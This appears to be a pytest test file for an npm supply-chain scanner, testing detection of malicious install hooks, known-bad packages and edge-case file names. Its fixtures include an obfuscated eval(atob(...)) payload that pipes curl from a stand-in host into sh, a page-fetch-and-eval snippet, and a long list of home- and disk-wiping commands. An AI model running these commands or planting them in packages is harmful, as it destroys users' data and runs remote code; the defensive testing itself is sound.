"""What other scanners got wrong first: each a test, so that it goes wrong here no more.

Roots that are links, the first entry of a lock, file names that are patterns or options elsewhere,
the spellings of a wiper, and plain words that a loose pattern takes for a threat.
"""

import base64
import hashlib
import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from picketline.core.decide import Decided
from picketline.core.model import Severity
from picketline.packages import collect
from picketline.packages.corpus import Corpus, Indicator
from picketline.packages.scan import Request, scan

_APPLICATION = json.dumps({"name": "app", "version": "1.0.0", "private": True})
_FETCH = 'require("child_process").execSync("curl -s https://collector.example/i | sh");'
_PAYLOAD = f"eval(atob('{base64.b64encode(_FETCH.encode()).decode()}'));\n"
_KNOWN = Corpus.of([Indicator(id="bad", kind="package", value="debug", versions="4.4.2")])

_LOCKS = {
    "v5": (
        "lockfileVersion: 5.4\n\nspecifiers:\n  debug: 4.4.2\n\n"
        "dependencies:\n  debug: 4.4.2\n\npackages:\n\n"
        "  /debug/4.4.2:\n    resolution: {integrity: sha512-AAAA}\n    dev: false\n"
    ),
    "v6": (
        "lockfileVersion: '6.0'\n\n"
        "dependencies:\n  debug:\n    specifier: 4.4.2\n    version: 4.4.2\n\npackages:\n\n"
        "  /debug@4.4.2:\n    resolution: {integrity: sha512-AAAA}\n    dev: false\n"
    ),
    "v9": (
        "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      debug:\n"
        "        specifier: 4.4.2\n        version: 4.4.2\n\npackages:\n\n"
        "  debug@4.4.2:\n    resolution: {integrity: sha512-AAAA}\n\n"
        "snapshots:\n\n  debug@4.4.2: {}\n"
    ),
}


def _laid(root: Path, files: Mapping[str, str], **manifest: object) -> Path:
    """An application with one installed package."""
    own = {"name": "p", "version": "1.0.0", **manifest}
    inner = {"package.json": json.dumps(own), **files}
    texts = {f"node_modules/p/{path}": text for path, text in inner.items()}
    for path, text in {"package.json": _APPLICATION, **texts}.items():
        file = root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text.encode())
    return root


def _told(root: Path, corpus: Corpus | None = None) -> list[Decided]:
    """The findings of medium or above; everything has to have been looked at."""
    request = Request(options=collect.Options(jobs=1))
    part = scan(root, corpus or Corpus.of(), request).part
    assert not part.skipped
    assert not part.errors
    return [each for each in part.findings if each.severity >= Severity.MEDIUM]


def _chains(found: list[Decided]) -> set[str]:
    return {
        str(each.value)
        for one in found
        if one.rule == "L2-POST-001" and one.severity is Severity.CRITICAL
        for each in one.evidence
        if each.name == "chain"
    }


def _lines(found: list[Decided]) -> list[str]:
    return sorted(f"{each.rule} {each.severity.value} {each.subject.identity}" for each in found)


def test_a_root_that_is_a_link(tmp_path: Path) -> None:
    """A scan through a link to a project sees the project, not nothing."""
    root = _laid(tmp_path / "true", {"a.js": _PAYLOAD}, scripts={"postinstall": "node a.js"})
    link = tmp_path / "link"
    link.symlink_to(root, target_is_directory=True)
    direct = _lines(_told(root))
    assert any(line.startswith("L2-POST-001 critical") for line in direct)
    assert _lines(_told(link)) == direct


def test_a_root_below_a_link(tmp_path: Path) -> None:
    """The same where a folder above the project is a link."""
    root = _laid(tmp_path / "true" / "x", {"a.js": _PAYLOAD}, scripts={"install": "node a.js"})
    link = tmp_path / "link"
    link.symlink_to(root.parent, target_is_directory=True)
    assert _chains(_told(link / "x")) == {"install: node a.js -> a.js"}


@pytest.mark.parametrize("lock", _LOCKS.values(), ids=_LOCKS)
def test_the_first_entry_of_a_lock(lock: str, tmp_path: Path) -> None:
    """A known bad package that stands first in a lock of pnpm is told, whatever its version."""
    wanted = {"name": "app", "version": "1.0.0", "dependencies": {"debug": "4.4.2"}}
    (tmp_path / "package.json").write_text(json.dumps(wanted))
    (tmp_path / "pnpm-lock.yaml").write_text(lock)
    assert "L2-IOC-001 critical pkg:npm/debug" in _lines(_told(tmp_path, _KNOWN))


def test_a_project_that_is_known_bad_itself(tmp_path: Path) -> None:
    """The scanned folder's own name and version are looked up as well."""
    (tmp_path / "package.json").write_text('{"name": "debug", "version": "4.4.2"}')
    assert "L2-IOC-001 critical pkg:npm/debug" in _lines(_told(tmp_path, _KNOWN))


@pytest.mark.parametrize(
    ("file", "command"),
    [
        (":!x.js", "node :!x.js"),
        (":!evil.js", "node ./:!evil.js"),
        (":(exclude)x.js", "node './:(exclude)x.js'"),
        ("my file.js", 'node "my file.js"'),
        ("my file.js", "node 'my file'"),
        ("my file.js", "node my\\ file.js"),
        ("a b/c d.js", "node 'a b/c d'"),
        ("a b/index.js", "node 'a b'"),
        ("*.js", "node '*.js'"),
        ("a[1].js", "node 'a[1].js'"),
        ("#x.js", "node '#x.js'"),
        ("$x.js", "node '$x.js'"),
        ("%20.js", "node %20.js"),
        ('q"x.js', "node 'q\"x.js'"),
        ("-x.js", "node ./-x.js"),
        ("--x/y.js", "node ./--x/y.js"),
        ("~/x.js", "node './~/x.js'"),
        ("..x/...js", "node ./..x/...js"),
        (".git/hooks/x.js", "node .git/hooks/x.js"),
    ],
)
def test_names_that_mean_something_elsewhere(file: str, command: str, tmp_path: Path) -> None:
    """A file is followed and read whatever its name would mean to git, a shell or an option."""
    root = _laid(tmp_path, {file: _PAYLOAD}, scripts={"preinstall": command})
    assert _chains(_told(root)) == {f"preinstall: {command} -> {file}"}


@pytest.mark.parametrize("name", ["a project", ":!project", "-project", "[project]", "pro\tject"])
def test_a_root_with_such_a_name(name: str, tmp_path: Path) -> None:
    """So is a project in such a folder."""
    root = _laid(tmp_path / name, {"a.js": _PAYLOAD}, scripts={"install": "node a.js"})
    assert _chains(_told(root)) == {"install: node a.js -> a.js"}


_WIPERS = (
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf ~/*",
    "rm -rf $HOME",
    'rm -rf "$HOME"',
    'rm -rf "$HOME"/*',
    'rm -rf "$HOME/"*',
    "rm -rf ${HOME}",
    'rm -rf "${HOME}"/*',
    "rm -rf /",
    "rm -rf '/'",
    "rm -rf /*",
    "rm -rf //",
    "rm -fr /home",
    "rm -rf /Users/*",
    "rm -r -f ~",
    "rm -f -r ~",
    "rm -Rf ~",
    "rm  -rf   ~",
    "rm --recursive --force ~",
    "rm -rf -- ~",
    "rm -rf --no-preserve-root /",
    "sudo rm -rf /",
    "/bin/rm -rf ~",
    "\\rm -rf ~",
    "command rm -rf ~",
    "busybox rm -rf ~",
    "rm -rf dist ~",
    "rm -rf ~;true",
    "true&&rm -rf ~",
    "true || rm -rf ~",
    "sh -c 'rm -rf ~'",
    'eval "rm -rf ~"',
    "H=~; rm -rf $H",
    "shred -u ~/*",
    "rd /s /q %USERPROFILE%",
    'rmdir /s /q "%USERPROFILE%"',
    "del /f /s /q %USERPROFILE%\\*",
    "rm -rf ///",
    "rm -rf /root",
    "rm -rf ~/Documents",
    "rm -rf ${HOME:-/root}",
    "find ~ -delete",
    'find "$HOME" -type f -delete',
    "find / -exec rm -rf {} +",
    "find $HOME -type f -print0 | xargs -0 rm -f",
    'find "$HOME" -type f -print0 | xargs -0 -r shred -uvz -n 1',
    "del /f /s /q C:\\*",
    "rd /s /q C:\\",
    "format C: /y",
    'powershell -c "Remove-Item -Recurse -Force $env:USERPROFILE"',
    "powershell Remove-Item $HOME -Recurse -Force",
    "cipher /W:%USERPROFILE%",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sda1",
)
_CLEANERS = (
    "rm -rf node_modules",
    "rm -rf dist/*",
    "rm -rf ./",
    "rm -rf ./~",
    "rm -rf lib~",
    "rm -rf ./home",
    'rm -rf "$PWD/home"',
    "rm -rf ~/.cache/p",
    'rm -rf "$HOME/.npm/_cacache"',
    "rm -rf $HOME_DIR",
    'rm -rf "$INIT_CWD/dist"',
    'rm -rf "$TMPDIR"/p',
    "rm -rf /tmp/p",
    "rm -rf /usr/local/lib/p",
    "rm ~/.config/p/old.json",
    "rm -f ~/.p.lock",
    'echo "rm -rf ~"',
    "echo rm -rf /",
    "# rm -rf ~",
    "git rm -rf .",
    "npm rm rf",
    "rimraf /tmp/p",
    "cd dist && rm -rf *",
    "cd ~/.cache/p && rm -rf *",
    "find . -name '*.tmp' -delete",
    "find ~/.cache/p -delete",
    "find ~ -name '*.log' -delete",
    "find / -name core -delete",
    "rm -rf ~/.npm",
    "rm -rf /home/ci/build",
    "rm -rf C:/tmp/x",
    "dd if=/dev/zero of=x.img",
    "powershell Remove-Item -Recurse ./dist",
    "docker run --rm -v /:/host p rm -rf /tmp/x",
    "rd /s /q dist",
    "del /q *.obj",
)


def _hooked(root: Path, commands: tuple[str, ...]) -> Path:
    """An application with a package for each command, which is its hook."""
    _laid(root, {})
    for number, command in enumerate(commands):
        own = {"name": f"w{number}", "version": "1.0.0", "scripts": {"postinstall": command}}
        folder = root / "node_modules" / f"w{number}"
        folder.mkdir()
        (folder / "package.json").write_text(json.dumps(own))
    return root


def test_a_wiper_however_it_is_spelt(tmp_path: Path) -> None:
    """Each hook that removes a home, or everything, is told as one."""
    told = {
        each.subject.identity
        for each in _told(_hooked(tmp_path, _WIPERS))
        if each.severity is Severity.CRITICAL
        and ("why", "deletes-home") in [(one.name, one.value) for one in each.evidence]
    }
    missed = [each for at, each in enumerate(_WIPERS) if f"pkg:npm/w{at}" not in told]
    assert missed == []


def test_what_only_tidies_up(tmp_path: Path) -> None:
    """No hook that removes what is its own, or only speaks of more."""
    told = {each.subject.identity for each in _told(_hooked(tmp_path, _CLEANERS))}
    assert [each for at, each in enumerate(_CLEANERS) if f"pkg:npm/w{at}" in told] == []


_HONEST = {
    "paths of an assistant's interface": (
        'export const paths = ["/v1/models", "/v1/messages", "/v1/chat/completions"];\n'
        'export const chat = (key, body) => fetch("https://api.openai.com" + paths[2], {\n'
        '  method: "POST", headers: { authorization: "Bearer " + key }, body });\n'
        'export const list = () => fetch("https://api.anthropic.com/v1/models", {\n'
        '  headers: { "x-api-key": process.env.ANTHROPIC_API_KEY } });\n'
    ),
    "words with t, any sign, and me": (
        "export const at = (t) => t.measure + t.merge(t.time, t.message) + performance.time;\n"
        'export const page = () => fetch("https://example.com/at.media/next.members");\n'
        'export const names = ["client.message", "format.media", "target.method"];\n'
    ),
    "a word for a scanner": (
        "// trufflehog and gitleaks run over each change\n"
        'export const tools = ["trufflehog", "gitleaks"];\n'
        'export const docs = "https://github.com/trufflesecurity/trufflehog";\n'
    ),
    "an end of a chain": (
        'const { JsonRpcProvider } = require("ethers");\n'
        'const chain = (key) => "https://eth-mainnet.nodereal.io/v1/" + key;\n'
        "exports.balance = (key, to) => new JsonRpcProvider(chain(key)).getBalance(to);\n"
        "exports.call = (key, to, data) => fetch(chain(key), { method: 'POST', body:\n"
        '  JSON.stringify({ id: 1, method: "eth_call", params: [{ to, data }] }) });\n'
    ),
}


@pytest.mark.parametrize("text", _HONEST.values(), ids=_HONEST)
def test_plain_words(text: str, tmp_path: Path) -> None:
    """What a loose pattern takes for a threat is none."""
    assert _told(_laid(tmp_path, {"index.js": text}, main="index.js")) == []


@pytest.mark.parametrize("name", ["words with t, any sign, and me", "a word for a scanner"])
def test_plain_words_of_a_hook(name: str, tmp_path: Path) -> None:
    """Not even where an install runs it."""
    scripts = {"postinstall": "node index.js"}
    assert _told(_laid(tmp_path, {"index.js": _HONEST[name]}, scripts=scripts)) == []


def test_the_host_that_is_meant(tmp_path: Path) -> None:
    """The messenger's short host is one where a channel is read and run."""
    text = (
        'fetch("https://t.me/example").then((answer) => answer.text()).then((page) =>\n'
        '  eval(Buffer.from(page.match(/content="(.+)"/)[1], "base64").toString()));\n'
    )
    root = _laid(tmp_path, {"a.js": text}, scripts={"postinstall": "node a.js"})
    assert _chains(_told(root)) == {"postinstall: node a.js -> a.js"}


@pytest.mark.parametrize("file", ["data.bin", "README.md", "a/.cache/x", ":!x.js"])
def test_a_known_payload_in_any_file(file: str, tmp_path: Path) -> None:
    """Hashes are looked up over every file, also of no language and below node_modules."""
    text = "a payload that is known\n"
    known = Indicator(id="payload", kind="sha256", value=hashlib.sha256(text.encode()).hexdigest())
    root = _laid(tmp_path, {file: text})
    assert [each.rule for each in _told(root, Corpus.of([known]))] == ["L2-IOC-001"]


@pytest.mark.parametrize("file", ["é.js", "café/run.js", "日本.js", "a\nb.js", "a\tb.js"])
def test_names_beyond_ascii(file: str, tmp_path: Path) -> None:
    """So is one whose name is not plain ASCII, which reports show as bytes."""
    hooked = _laid(tmp_path / "a", {file: _PAYLOAD}, scripts={"install": f"node '{file}'"})
    required = {"i.js": f"require({json.dumps('./' + file)});", file: _PAYLOAD}
    behind = _laid(tmp_path / "b", required, scripts={"install": "node i.js"})
    assert len(_chains(_told(hooked))) == len(_chains(_told(behind))) == 1
